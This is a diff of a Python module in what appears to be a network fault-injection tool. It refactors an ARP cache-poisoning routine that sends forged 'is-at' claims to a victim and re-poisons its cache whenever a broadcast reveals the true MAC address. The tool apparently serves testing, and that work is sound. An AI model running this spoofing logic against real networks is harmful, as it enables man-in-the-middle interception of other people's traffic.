@@ -8,14 +8,12 @@ from coldaisle_contracts.taxonomy import Role
 from coldaisle_injector import frames
 from coldaisle_injector.notes import Notes
 from coldaisle_injector.segments import Arp
-from coldaisle_injector.wire import Wire
+from coldaisle_injector.wire import BROADCAST, OURS, Wire
 
 RESEND_NS = 250_000_000
 """Wall time after which an unanswered claim is repeated, in ns."""
 LOCK_NS = 1_100_000_000
 """Wall time for which a kernel keeps an address that it has just learned, in ns: one second (locktime, arp(7)) and a margin."""
-_OURS = bytes.fromhex(INJECTOR.mac.replace(":", ""))
-_BROADCAST = b"\xff" * 6
 _IS_AT = 2
 
 
@@ -67,16 +65,18 @@ class Caches:
         if not self.poisoned or arp.sender_ip != victim.ip:
             return
         if arp.target_ip != other.ip:
-            if frame[:6] == _BROADCAST:  # the other side learned the sender's true MAC address from it
+            if frame[:6] == BROADCAST:  # the other side learned the sender's true MAC address from it
                 self.poison()
             return
-        to_us = frame[:6] == _OURS
+        to_us = frame[:6] == OURS
         if to_us:
             self.notes.frame(frame, victim, Role.CONSEQUENCE, "reply", anomalous=True)
         if arp.operation == _IS_AT:
             self.unanswered.discard(victim.ip)
         elif to_us:
-            self._send(frames.arp_answer(INJECTOR.mac, (victim.ip, victim.mac), other.ip), victim, "poison")
+            self._send(
+                frames.arp_claim(INJECTOR.mac, (victim.ip, victim.mac), other.ip, _IS_AT), victim, "poison"
+            )
         else:
             self.poison()
 
